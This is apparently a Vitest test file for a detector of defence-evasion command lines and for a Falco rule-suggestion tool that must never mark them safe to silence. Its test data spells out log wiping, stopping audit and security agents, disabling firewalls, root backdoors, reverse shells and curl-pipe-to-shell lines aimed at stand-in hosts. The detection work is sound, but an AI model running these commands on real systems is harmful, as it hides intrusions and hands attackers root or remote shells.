// Commands that undo what watches, or open the next door, and those that look alike.
import { describe, expect, it } from 'vitest';
import { scenarios } from '../../scenario/catalogue.ts';
import { suggest } from '../suggest.ts';
import { group, logOf } from '../testing/log-arbitrary.ts';
import { tamperingIn } from './tampering-commands.ts';

const tampering = [
  'history -c',
  'bash -c unset HISTFILE',
  'export HISTSIZE=0',
  'journalctl --vacuum-time=1s',
  'auditctl -e 0',
  'dmesg --clear',
  'sh -c rm -f /var/log/auth.log',
  'sh -c : > /var/log/messages',
  'find /var/log -name *.log -delete',
  'ln -sf /dev/null /root/.bash_history',
  'shred -u /var/log/wtmp',
  '/usr/bin/pkill -9 falco',
  'killall rsyslogd',
  'sudo systemctl stop auditd',
  'service osqueryd stop',
  'setenforce 0',
  'iptables -F',
  'nft flush ruleset',
  'ufw --force disable',
  'insmod /tmp/x.ko',
  'useradd -o -u 0 eve',
  'sh -c echo x | chpasswd',
  'nsenter -t 1 -m -u sh',
  'docker run --privileged x',
  'crontab -',
  'chmod u+s /bin/bash',
  'chmod 4755 /tmp/x',
  'chattr -i /etc/passwd',
  'bash -c bash -i >& /dev/tcp/185.1.2.3/4444 0>&1',
  'sh -c nc -e /bin/sh 1.2.3.4 4444',
  'ncat --exec /bin/bash 10.0.0.1 9000',
  'nc.traditional -nvc /bin/sh 1.2.3.4 4',
  'socat TCP:1.2.3.4:443 EXEC:/bin/sh',
  'socat exec:bash tcp:1.2.3.4:1',
  'perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6)',
  'python3 -c import socket,pty;pty.spawn("sh")',
  'php -r $s=fsockopen("1.2.3.4",1);',
  'sh -c mkfifo /tmp/f; nc 1.2.3.4 1 </tmp/f | sh >/tmp/f',
  'sh -c curl -fsSL http://1.2.3.4/x.sh | sh',
  'bash -c wget -qO- http://x/y | sudo bash -s',
  'sh -c curl http://x | python3',
  'bash -c bash <(curl -s http://x)',
  'sh -c eval "$(wget -qO- http://x)"',
  'base64 -d',
  'base64 --decode /tmp/a',
  'openssl enc -aes-256-cbc -d -in x',
  'xxd -r -p /tmp/a',
];
const ordinary = [
  'report --mount /data',
  'node server.js --history',
  'python3 /opt/app/main.py',
  'tail -F /var/log/app.log',
  'cat /var/log/app/app.log',
  'systemctl status nginx',
  'iptables -L -n',
  'journalctl -u app',
  'deployer sync',
  'chmod 0755 /srv/app/bin',
  'kill -HUP 17',
  'rm -f /tmp/build/x.o',
  'report passwd',
  'nc -z db.example 5432',
  'curl -fsS http://localhost:8080/health',
  'curl -o /srv/app.tar.gz https://example.org/app.tar.gz',
  'base64 /etc/app/logo.png',
  'python3 /opt/app/socket_server.py',
  'openssl x509 -in /etc/ssl/certs/a.pem -noout -dates',
  'sh -c exec /docker-entrypoint.sh postgres',
  'socat - UNIX-CONNECT:/run/app.sock',
];

describe('a command line', () => {
  it.each(tampering)('%s is told', (command) => expect(tamperingIn(command)).toBeDefined());
  it.each(ordinary)('%s is not', (command) => expect(tamperingIn(command)).toBeUndefined());

  it('takes no time over a long one', () => {
    for (const text of ['rm ', ';rm ', 'systemctl x ', '/'.repeat(9), 'sudo -x '])
      expect(tamperingIn(text.repeat(5000))).toBeUndefined();
  });
});

it('is never safe to silence, whatever the rule is called', () => {
  for (const name of ['Log File Tampering', 'Something odd']) {
    const rules = `- rule: ${name}\n  desc: d\n  condition: evt.type = execve\n  output: x %proc.cmdline\n  priority: NOTICE\n`;
    const safe = (command: string) => {
      const fields = {
        'proc.cmdline': command,
        'proc.exepath': `/usr/bin/${command.split(' ')[0]}`,
        'container.image.repository': 'registry.example/app',
      };
      const log = logOf([
        group({ id: 0, rule: name, priority: 'Notice', fields, count: 50, pods: 9 }),
      ]);
      const hand = { kind: 'files', files: [{ name: 'r.yaml', text: rules }] } as const;
      return suggest(log, hand, scenarios()).suggestions.some(({ isSafe }) => isSafe);
    };
    expect(safe('journalctl --vacuum-time=1s')).toBe(false);
    expect(safe('systemctl stop auditd')).toBe(false);
    expect(safe('report --daily')).toBe(true);
  }
});
